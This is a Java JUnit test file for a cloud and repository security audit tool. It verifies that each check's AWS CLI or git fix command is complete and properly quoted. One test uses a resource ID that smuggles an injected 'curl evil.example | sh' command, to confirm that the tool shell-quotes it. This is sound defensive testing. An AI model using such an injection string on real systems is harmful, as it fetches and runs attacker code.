package com.huntaze.audit.report;

import static org.assertj.core.api.Assertions.assertThat;

import com.huntaze.audit.engine.CheckMetadata;
import com.huntaze.audit.engine.CheckRegistry;
import com.huntaze.audit.engine.FixCommandTemplate;
import com.huntaze.audit.engine.RegisteredCheck;
import com.huntaze.audit.testing.CliRun;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;

/**
 * Every check declares the command that fixes its findings, or why none does; rendered from the demo's findings,
 * every command is complete: no parameter left, each naming a value the finding has.
 */
class FixCommandCatalogTest {

    private static final List<RegisteredCheck> CHECKS = CheckRegistry.load().checks();

    @SuppressWarnings("unchecked")
    private static List<Map<String, Object>> list(Map<String, Object> tree, String field) {
        return (List<Map<String, Object>>) tree.get(field);
    }

    @Test
    void everyCheckHasAFixCommandOrSaysWhyNot() {
        for (RegisteredCheck c : CHECKS) {
            CheckMetadata m = c.metadata();
            assertThat(m.fixCommand() == null).as(m.id() + ": fixCommand xor noFixCommand")
                    .isNotEqualTo(m.noFixCommand() == null);
            List<String> templates = new ArrayList<>(m.fixCommandFor().values());
            if (m.fixCommand() != null) {
                templates.add(m.fixCommand());
            }
            for (String t : templates) {
                assertThat(FixCommandTemplate.parameters(t)).as(m.id()).allMatch(FixCommandTemplate::isKnown);
                // Repository checks fix files, with git; every other check fixes the account, with the AWS CLI.
                assertThat(t.isBlank() || t.startsWith(m.id().startsWith("repo.") ? "git " : "aws "))
                        .as(m.id() + ": " + t).isTrue();
            }
        }
        assertThat(CHECKS).filteredOn(c -> c.metadata().id().startsWith("manual."))
                .allSatisfy(c -> assertThat(c.metadata().noFixCommand()).isNotBlank());
    }

    @Test
    void theProseOfACheckWithAFixCommandEmbedsNoCommandWithPlaceholders() {
        for (RegisteredCheck c : CHECKS) {
            if (c.metadata().fixCommand() != null) {
                assertThat(c.metadata().remediation()).as(c.id())
                        .doesNotContainPattern("--[a-z-]+ (ID|CLUSTER|SERVICE|NAME|TABLE|BUCKET|ARN|GROUP_ID)\\b");
            }
        }
    }

    @Test
    @SuppressWarnings("unchecked")
    void everyNokFindingOfTheDemoGetsACompleteCommandWithItsOwnIdentifiers() {
        Map<String, Object> demo = JsonReport.parse(CliRun.of("check", "--demo", "--format", "json").out());
        Set<String> exercised = new TreeSet<>();
        for (Map<String, Object> check : list(demo, "checks")) {
            if (check.get("fixCommand") == null) {
                assertThat(check).as("a check without fixCommand has no fixCommandFor").doesNotContainKey("fixCommandFor");
                continue;
            }
            for (Map<String, Object> f : list(demo, "findings")) {
                if (!check.get("id").equals(f.get("checkId")) || !"NOK".equals(f.get("status"))) {
                    continue;
                }
                List<String> commands = FixCommands.of(check, f, (String) demo.get("account"));
                if (commands.isEmpty()) {
                    // Only where the check says no command fits this kind of resource (an Aurora cluster).
                    assertThat(((Map<String, String>) check.getOrDefault("fixCommandFor", Map.of())).containsValue(""))
                            .as(check.get("id") + " " + f.get("resourceId")).isTrue();
                    continue;
                }
                exercised.add((String) check.get("id"));
                for (String command : commands) {
                    assertThat(FixCommandTemplate.PARAMETER.matcher(command).find()).as(command).isFalse();
                    String id = (String) f.get("resourceId");
                    List<String> names = id.isEmpty() ? List.of((String) demo.get("account"))
                            : List.of(id, id.substring(id.lastIndexOf('/') + 1), (String) f.get("resourceArn"));
                    assertThat(names).as(command + " names its resource").anyMatch(command::contains);
                }
            }
        }
        // The demo reads no repository: the repo.* commands are rendered by RepositoryAuditCliTest.
        List<String> declared = CHECKS.stream().filter(c -> c.metadata().fixCommand() != null).map(RegisteredCheck::id)
                .filter(id -> !id.startsWith("repo.")).toList();
        assertThat(exercised).as("every fix command is rendered from a demo finding").containsExactlyInAnyOrderElementsOf(declared);
    }

    @Test
    void aValueWithShellCharactersIsQuotedSoThatTheCommandStaysOneCommand() {
        Map<String, Object> check = Map.of("id", "logs.retention", "fixCommand",
                "aws logs put-retention-policy --log-group-name {resourceId} --retention-in-days 30 --region {region}");
        Map<String, Object> finding = Map.of("checkId", "logs.retention", "status", "NOK", "region", "us-east-1",
                "resourceType", "AWS::Logs::LogGroup", "resourceId", "x; curl evil.example | sh 'now'");

        assertThat(FixCommands.of(check, finding, "123456789012")).containsExactly("aws logs put-retention-policy"
                + " --log-group-name 'x; curl evil.example | sh '\\''now'\\''' --retention-in-days 30 --region us-east-1");
    }

    @Test
    void aFindingWithoutAValueTheCommandNeedsGetsNoCommandRatherThanAGap() {
        Map<String, Object> check = Map.of("id", "rds.backup-retention", "fixCommand",
                "aws rds modify-db-instance --db-instance-identifier {resourceId} --backup-retention-period"
                        + " {evidence.MinimumDays} --region {region}");
        Map<String, Object> finding = Map.of("checkId", "rds.backup-retention", "status", "NOK", "region", "us-east-1",
                "resourceType", "AWS::RDS::DBInstance", "resourceId", "orders-db", "evidence", Map.of());

        assertThat(FixCommands.of(check, finding, "123456789012")).isEmpty();
        assertThat(FixCommands.of(check, Map.of("status", "TODO"), "123456789012")).as("a TODO is verified first")
                .isEmpty();
    }

    @Test
    void parametersAreNamesInBracesAndTheBracesOfJsonArgumentsAreText() {
        assertThat(FixCommandTemplate.isKnown("resourceName")).isFalse();
        assertThat(FixCommandTemplate.isKnown("resourceId[1]")).isTrue();
        assertThat(FixCommandTemplate.parameters("aws x --a {resourceId} --rules '[{\"k\":1}]' {evidence.MinimumDays}"))
                .containsExactly("resourceId", "evidence.MinimumDays");
    }
}
